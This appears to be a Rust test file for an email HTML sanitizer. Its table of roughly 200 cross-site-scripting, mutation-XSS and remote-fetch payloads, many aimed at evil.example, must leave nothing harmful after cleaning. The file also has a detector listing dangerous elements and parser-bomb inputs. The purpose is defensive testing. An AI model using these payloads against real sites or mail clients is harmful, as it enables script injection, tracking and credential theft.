//! The attack table: script, requests and tricks in every place where a browser has known them.
#![expect(clippy::unwrap_used, reason = "tests")]

use super::*;
use std::time::{Duration, Instant};

fn cleaned(html: &str) -> String {
    clean(html, &Images::default(), &Limits::default()).html
}

/// One case per class and variant. None may leave anything that runs, fetches, or leaves the frame.
const ATTACKS: &[&str] = &[
    // Script elements and what a sloppy reader takes for something else.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script/y>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "<<script>alert(1)//<</script>",
    "<script\x0btype='text/javascript'>alert(1)</script>",
    "<script\0>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "<xml><script>alert(1)</script></xml>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<?xml version=\"1.0\"?><?php <img src=x onerror=alert(1)>?>",
    "</p/><img src=x onerror=alert(1)>",
    // Event handlers.
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='x'\tonerror\n=\nalert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1) background=javascript:alert(1)>",
    "<div onmouseover='alert(1)' onclick=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</div>",
    "<a onpointerenter=alert(1) href=#>x</a>",
    "<p ONCLICK=alert(1)>x</p>",
    "<p on\u{0}click=alert(1)>x</p>",
    "<p onclick\u{a0}=alert(1)>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)><td background=//evil.example/x>",
    "<p style=\"animation-name:x\" onanimationstart=alert(1)>",
    // Addresses that are programs.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://here.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='filesystem:https://here.example/x'>x</a>",
    "<a href='view-source:https://x.example'>x</a>",
    "<a href='intent://x#Intent;scheme=http;end'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='//evil.example/x' ping='//evil.example/ping' download>x</a>",
    "<a href='?do=delete'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<img src=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1) xmlns=http://www.w3.org/2000/svg>'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    // Whatever would fetch.
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='\\\\evil.example\\share'>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<picture><source srcset=https://evil.example/a><img src=https://evil.example/b></picture>",
    "<img src=ftp://evil.example/x>",
    "<image src=https://evil.example/x>",
    "<image xlink:href=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x><link rel=dns-prefetch href=//evil.example>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<bgsound src=https://evil.example/x>",
    "<embed src=https://evil.example/x.swf>",
    "<object data=https://evil.example/x><param name=movie value=https://evil.example/x></object>",
    "<applet code=x archive=https://evil.example/x></applet>",
    "<iframe src=https://evil.example/x></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=https://evil.example></frameset>",
    "<portal src=https://evil.example>",
    "<video poster=https://evil.example/x src=https://evil.example/y></video>",
    "<audio><source src=https://evil.example/y></audio>",
    "<track src=https://evil.example/x>",
    "<input type=image src=https://evil.example/x>",
    "<body background=https://evil.example/x>",
    "<table background=https://evil.example/x><tr background=https://evil.example/y><td background=https://evil.example/z>",
    "<html manifest=https://evil.example/x>",
    "<blockquote cite=https://evil.example/x>y</blockquote>",
    "<ins cite=https://evil.example/x>y</ins>",
    "<img longdesc=https://evil.example/x usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<isindex action=javascript:alert(1) type=image>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=password><input type=submit></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<div style=\"background:url(https://evil.example/x)\">",
    "<div style=\"background:url('https://evil.example/x\">",
    "<div style=\"background:url(https://evil.example/x\">",
    "<div style='background:u\\72l(https://evil.example/x)'>",
    "<div style='background:\\75\\72\\6c(https://evil.example/x)'>",
    "<div style=\"background:image-set('https://evil.example/x' 1x)\">",
    "<div style=\"background:-webkit-image-set(url(https://evil.example/x) 1x)\">",
    "<div style=\"background:cross-fade(url(https://evil.example/x),red)\">",
    "<div style=\"list-style:url(https://evil.example/x)\">",
    "<div style=\"cursor:url(https://evil.example/x),auto\">",
    "<div style=\"border-image:url(https://evil.example/x)\">",
    "<div style=\"content:url(https://evil.example/x)\">",
    "<div style=\"mask:url(https://evil.example/x)\">",
    "<div style=\"--x:url(https://evil.example/x);background:var(--x)\">",
    "<div style=\"@import 'https://evil.example/x'\">",
    "<div style=\"src:url(https://evil.example/x)\">",
    "<div style=\"width:expression(alert(1))\">",
    "<div style=\"width:exp/**/ression(alert(1))\">",
    "<div style=\"behavior:url(#default#time2)\">",
    "<div style=\"-moz-binding:url(https://evil.example/x#y)\">",
    "<div style=\"background:&#117;&#114;&#108;(javascript:alert(1))\">",
    "<div style='color:red;}</style><script>alert(1)</script>'>",
    "<style>@import 'https://evil.example/x';body{background:url(https://evil.example/y)}</style>",
    "<style>*{background:url(https://evil.example/x)}",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<style><!--</style><script>alert(1)//--></script>",
    // Out of the frame, over the page.
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">x</div>",
    "<div style=\"position:absolute;top:-500px\">x</div>",
    "<div style=\"transform:translate(-1000px)\">x</div>",
    "<a href=https://x.example target=_top>x</a>",
    "<a href=https://x.example target=_parent rel=opener>x</a>",
    "<div class=toolbar id=undo name=undo>x</div>",
    "<img name=getElementById><img id=cookie name=cookie>",
    "<dialog open>x</dialog>",
    "<div popover popovertarget=x>x</div>",
    "<div contenteditable autofocus>x</div>",
    "<a accesskey=x href=https://x.example>x</a>",
    // Foreign content.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><image href=https://evil.example/x></svg>",
    "<svg><style>@import 'https://evil.example/x'</style></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\">",
    // Mutation: what reads differently the second time.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><p title=\"</template><img src=x onerror=alert(1)>\"></template>",
    "<template><script>alert(1)</script></template>",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<img alt=\"`><img src=x onerror=alert(1)//`\" src=`>",
    "<img title=\"</div><script>alert(1)</script>\" alt='\"><script>alert(1)</script>'>",
    "<a title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;' href=https://x.example>x</a>",
    "<p title=\"<!--\"><img src=x onerror=alert(1)>--></p>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><svg><desc><td><title><img src=x onerror=alert(1)></title>",
    "<p><svg><p><style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<a<img src=x onerror=alert(1)>>x</a>",
    "<div <img src=x onerror=alert(1)>>x</div>",
    "<a href=\"https://x.example\"<script>alert(1)</script>>x</a>",
    "<b><a href='https://x.example/\" onmouseover=\"alert(1)'>x</a></b>",
    "<font face=\"x' onmouseover='alert(1)\">x</font>",
    "<td width='1\" onmouseover=\"alert(1)'>x",
    "<div lang='x\" onclick=\"alert(1)'>x</div>",
    "<ruby><rt><script>alert(1)</script></rt></ruby>",
    "<custom-element is=x onconnected=alert(1)></custom-element>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<xss style=\"xss:expr/*XSS*/ession(alert(1))\">",
    "<o:p onclick=alert(1)>x</o:p><v:roundrect href=javascript:alert(1)>x</v:roundrect>",
];

/// Reads the cleaned HTML again with a parser and judges the tree, so that harmless text may say "onerror=".
fn harm_in(html: &str) -> Option<String> {
    let lower = html.to_ascii_lowercase();
    for tag in tags_of(&lower) {
        let name = tag.split(|c: char| c.is_whitespace() || c == '>').next().unwrap_or_default();
        const KEPT: &[&str] = &[
            "svg", "math", "script", "style", "iframe", "form", "input", "base", "meta", "link",
            "object", "template", "noscript", "button", "select", "textarea", "video", "audio",
        ];
        if KEPT.contains(&name) {
            return Some(format!("element {name}"));
        }
        let outside_values = without_values(tag);
        for attribute in outside_values.split_ascii_whitespace().skip(1) {
            let attribute = attribute.trim_end_matches(['=', '>', '/']);
            let known = [
                "href",
                "class",
                "src",
                "alt",
                "title",
                "style",
                "target",
                "rel",
                "width",
                "height",
                "align",
                "valign",
                "bgcolor",
                "color",
                "dir",
                "lang",
                "face",
                "size",
                "border",
                "cellpadding",
                "cellspacing",
                "colspan",
                "rowspan",
                "type",
                "start",
                "value",
                "nowrap",
                "span",
            ];
            if !known.contains(&attribute) {
                return Some(format!("attribute {attribute} in <{tag}"));
            }
        }
        if tag.contains("class=") && !tag.contains("class=\"gone\"") {
            return Some(format!("a class of the sender's in <{tag}"));
        }
        for bad in [
            "=\"javascript:",
            "=\"vbscript:",
            "=\"data:text",
            "=\"data:image/svg",
            "url(",
            "src=\"http",
            "src=\"//",
            "position:",
            "expression(",
            "=\"/",
            "=\"?",
            "=\"#",
            "_top",
            "_parent",
        ] {
            if tag.contains(bad) {
                return Some(format!("{bad} in <{tag}"));
            }
        }
    }
    None
}

fn tags_of(html: &str) -> Vec<&str> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = rest.get(at + 1..).unwrap();
        let mut quoted = false;
        let end = rest
            .find(|c| {
                quoted ^= c == '"';
                c == '>' && !quoted
            })
            .unwrap_or(rest.len());
        if !rest.starts_with('/') {
            tags.push(rest.get(..end).unwrap());
        }
    }
    tags
}

fn without_values(tag: &str) -> String {
    tag.split('"').step_by(2).collect::<Vec<_>>().join(" ")
}

#[test]
fn no_attack_that_a_browser_has_known_leaves_anything_behind() {
    for attack in ATTACKS {
        for html in [
            (*attack).to_owned(),
            format!("<div><p>before{attack}after</p></div>"),
            format!("<table><tr><td>{attack}</td></tr></table>"),
        ] {
            let once = cleaned(&html);
            assert_eq!(harm_in(&once), None, "{html}\nbecame\n{once}");
            // What is clean stays clean when it is read once more: nothing mutates.
            let twice = cleaned(&once);
            assert_eq!(harm_in(&twice), None, "{html}\nbecame at the second reading\n{twice}");
        }
    }
    assert!(ATTACKS.len() >= 150, "{} attacks", ATTACKS.len());
}

#[test]
fn the_judge_of_this_table_knows_harm_when_it_sees_it() {
    for harmful in [
        "<script>x</script>",
        "<img src=\"http://x\">",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<p style=\"position:fixed\">",
    ] {
        assert!(harm_in(harmful).is_some(), "{harmful}");
    }
    assert_eq!(harm_in("<p title=\"onclick=x\">onerror=1</p>"), None);
}

#[test]
fn ordinary_letters_keep_their_shape() {
    for (html, expected) in [
        ("<p>Hello <b>world</b></p>", "<p>Hello <b>world</b></p>"),
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<b><i>x</b>y</i>", "<b><i>x</i></b><i>y</i>"),
        ("a &lt; b &amp; c < d", "a &lt; b &amp; c &lt; d"),
        (
            "<html><head><title>no</title></head><body><article>x</article></body></html>",
            "<div><div>x</div></div>",
        ),
        (
            "<body bgcolor=#000 text=white>x",
            "<div style=\"background-color:#000;color:white;\" bgcolor=\"#000\">x</div>",
        ),
        ("<!--[if mso]>no<![endif]-->yes", "yes"),
        ("<td>lonely", "lonely"),
        ("</p></div>x", "x"),
    ] {
        assert_eq!(cleaned(html), expected, "{html}");
    }
}

#[test]
fn links_open_elsewhere_and_tell_nobody_where_from() {
    let html = cleaned(
        "<a href='https://example.org/a b?x=1&amp;y=2#z'>x</a> <a href=mailto:ann@example.org>m</a>",
    );
    assert!(html.contains("href=\"https://example.org/a%20b?x=1&amp;y=2#z\""), "{html}");
    assert!(html.contains("href=\"mailto:ann@example.org\""), "{html}");
    assert_eq!(html.matches("target=\"_blank\"").count(), 2);
    assert_eq!(html.matches("rel=\"noopener noreferrer nofollow\"").count(), 2);
}

const PNG: &[u8] = b"\x89PNG\r\n\x1a\nrest";

fn images(pictures: &[(&str, &[u8])], limits: &PictureLimits) -> Images {
    Images::of(pictures.iter().map(|(id, picture)| ((*id).to_owned(), picture.to_vec())), limits)
}

#[test]
fn pictures_of_the_message_itself_are_shown_and_others_are_counted() {
    let svg: &[u8] = b"<svg onload=alert(1)>";
    let images = images(&[("logo@x", PNG), ("evil@x", svg)], &PictureLimits::default());
    let done = clean(
        "<img src='cid:logo@x' alt=Logo><img src=cid:evil@x><img src=cid:none><img src=https://x.example/1>",
        &images,
        &Limits::default(),
    );
    assert_eq!(done.html.matches("data:image/png;base64,").count(), 1, "{}", done.html);
    assert_eq!(done.html.matches("src=").count(), 1, "{}", done.html);
}

#[test]
fn a_picture_named_again_and_again_is_not_written_without_end() {
    let picture = [PNG, &vec![b'x'; 1_500_000]].concat();
    let images = images(&[("a", &picture)], &PictureLimits::default());
    let done = clean(&"<img src=cid:a alt=x>".repeat(30), &images, &Limits::default());
    assert!(done.html.len() < 24 * 1024 * 1024, "{} octets", done.html.len());
    assert_eq!(done.html.matches("<img").count(), 30, "the others keep their words");
}

#[test]
fn pictures_are_written_up_to_their_limit() {
    let written = |written_octets_max| {
        let limits = PictureLimits { written_octets_max, ..PictureLimits::default() };
        let html = "<img src=cid:a><img src=cid:a>";
        let done = clean(html, &images(&[("a", PNG)], &limits), &Limits::default());
        done.html.matches("src=").count()
    };
    let octets = "data:image/png;base64,iVBORw0KGgpyZXN0".len();
    assert_eq!([2 * octets, 2 * octets - 1, octets - 1].map(written), [2, 1, 0]);
}

#[test]
fn pictures_over_a_limit_stay_attachments() {
    let limits = PictureLimits {
        picture_octets_max: 10,
        pictures_octets_max: 20,
        ..PictureLimits::default()
    };
    let mut room = Room::of(&limits);
    assert!(!room.has(11) && room.has(10));
    room.take(10);
    room.take(9);
    assert!(room.has(1) && !room.has(2));
}

#[test]
fn tags_begun_anew_again_and_again_are_cut() {
    let anew = |inner: &str| format!("{}{inner}{}", "<b>".repeat(62), "</b>".repeat(62));
    for bomb in [
        anew(&format!("<i src='{}'>", "x".repeat(1_000_000))),
        anew(&format!("<i title='{}' x='{0}' y='{0}'>", "\"".repeat(8_000))).repeat(20),
    ] {
        let done = clean(&bomb, &Images::default(), &Limits::default());
        assert!(done.html.len() < 4 * 1024 * 1024, "{} octets", done.html.len());
    }
}

#[test]
fn nesting_without_end_costs_no_more_than_its_length() {
    let bombs = [
        "<ul><li>".repeat(15_000),
        "<b>".repeat(70_000),
        "<div>".repeat(70_000),
        format!("<p>{}", "<b x=1><i><u>".repeat(40_000)),
        format!(
            "<p>{}{}",
            (0..60).map(|n| format!("<font size={n}>")).collect::<String>(),
            "<div>a</div>".repeat(15_000)
        ),
        format!("<p {}>", "a ".repeat(400_000)),
        "<!--x--!>".repeat(40_000),
        "<a href=x>".repeat(40_000),
        "<table>".repeat(40_000),
        "<table><tr><td>".repeat(15_000),
        "<table><b>".repeat(80_000),
        "</b>".repeat(70_000),
        "<svg>".repeat(150_000),
        "<b></p>".repeat(40_000),
        "<".repeat(70_000),
        "&".repeat(300_000),
        "&amp;".repeat(40_000),
        "\u{a0}\u{b0}".repeat(15_000),
        format!("<p title='{}'>", "&".repeat(900_000)),
        format!("<img alt=x src='{}'>", "&".repeat(900_000)),
        format!("<p>{}", "<b title='&&&&&&&&&&&&&&&&&&&&&&&&'>&&&&&&&&&&".repeat(6_000)),
        format!("<p style=\"{}\">", "color:red;".repeat(90_000)),
        "<p style=\"color:red;color:red\">".repeat(30_000),
        "<h1><a><b><nobr>".repeat(50_000),
        format!("{}{}", "<div><b>".repeat(31), "<p>x</b>".repeat(15_000)),
        "<i><b></i>".repeat(90_000),
        format!("<table>{}{}", "<b>".repeat(60), "<td></td>x".repeat(15_000)),
        format!(
            "<table>{}{}",
            (0..60).map(|n| format!("<font size={n}>")).collect::<String>(),
            "<td></td>x".repeat(15_000)
        ),
        format!(
            "<table><tr>{}{}",
            (0..60).map(|n| format!("<a title={n}>")).collect::<String>(),
            "x<td>".repeat(15_000)
        ),
        format!(
            "<table><caption>{}{}",
            (0..60).map(|n| format!("<font size={n}>")).collect::<String>(),
            "x<td></td>".repeat(15_000)
        ),
        format!(
            "<ul>{}{}",
            (0..60).map(|n| format!("<font size={n}>")).collect::<String>(),
            "<li>x".repeat(15_000)
        ),
        format!(
            "{}{}",
            (0..60).map(|n| format!("<font size={n}>")).collect::<String>(),
            "<p>x".repeat(15_000)
        ),
        format!(
            "<h1>{}{}",
            (0..60).map(|n| format!("<font size={n}>")).collect::<String>(),
            "<h2>x</h2>".repeat(15_000)
        ),
        format!(
            "<a>{}{}",
            (0..60).map(|n| format!("<font size={n}>")).collect::<String>(),
            "<a>x".repeat(15_000)
        ),
        format!(
            "<pre>{}{}",
            (0..60).map(|n| format!("<font size={n}>")).collect::<String>(),
            "<hr>x<address>".repeat(15_000)
        ),
    ];
    for bomb in bombs {
        let began = Instant::now();
        let done = cleaned(&bomb);
        let took = began.elapsed();
        // A debug build on a busy machine; the quadratic ones took minutes.
        assert!(took < Duration::from_secs(20), "{took:?} for {}…", bomb.get(..40).unwrap());
        assert!(
            done.len() < 24 * 1024 * 1024,
            "{} octets from {}…",
            done.len(),
            bomb.get(..40).unwrap()
        );
    }
}

#[test]
fn what_goes_over_a_limit_is_cut_and_said_so() {
    let limits = Limits { octets_max: 100, depth_max: 3, elements_max: 5 };
    let of = |html: &str| clean(html, &Images::default(), &limits);
    assert!(!of(&"x".repeat(100)).cut);
    assert!(of(&"x".repeat(101)).cut);
    assert!(!of(&"<br>".repeat(5)).cut);
    assert!(of(&"<br>".repeat(6)).cut);
    let deep = of("<div><div><div><div>deep</div></div></div></div>after");
    assert_eq!(deep.html, "<div><div><div>deep</div></div></div>after");
}

#[test]
fn a_letter_quoted_whole_at_the_end_is_folded() {
    let quote = format!(
        "<div class=gmail_quote><div>On Monday Ann wrote:</div><blockquote>{}</blockquote></div>",
        "words ".repeat(100)
    );
    let answer = cleaned(&format!("<div>Yes.</div>{quote}"));
    assert!(answer.contains("<details><summary>Quoted text</summary>"), "{answer}");
    let interleaved = cleaned(&format!("<div>Yes.</div>{quote}<div>And here my answer.</div>"));
    assert!(!interleaved.contains("<details>"), "{interleaved}");
    assert!(!cleaned("<details><summary>mine</summary>x</details>").contains("details"));
}

#[test]
fn a_glance_tells_plain_letters_from_laid_out_ones() {
    let of = |html: &str| glance(html, &Limits::default());
    assert!(!of("<div dir=ltr>Hello<br>you</div><p>x</p>").has_layout);
    assert!(of("<table><tr><td>x</table>").has_layout);
    assert!(of("<img src=cid:x>").has_layout);
    let pictures = "<img src=cid:a><img src=CID:b><img src=data:x><img><img src=https://x.example/1><img src=//x.example/2>";
    assert_eq!(of(pictures).remote_images, 2);
    let (short, long) = (of("<p>x</p>").height.wide, of(&"<p>x</p>".repeat(20)).height.wide);
    assert!(short < 150 && long > 600, "{short} {long}");
    let beside = of(&format!(
        "<table><tr>{}</tr></table>",
        format!("<td>{}</td>", "<p>x</p>".repeat(10)).repeat(4)
    ));
    assert!(beside.height.wide < 600, "{:?}", beside.height);
    let words = of(&format!("<p>{}</p>", "word ".repeat(1_000))).height;
    assert!(words.narrow > words.wide * 3 / 2, "{words:?}");
    let picture = of("<img src=cid:x width=900 height=900>").height;
    assert!(picture.narrow < picture.wide / 2, "it shrinks: {picture:?}");
}
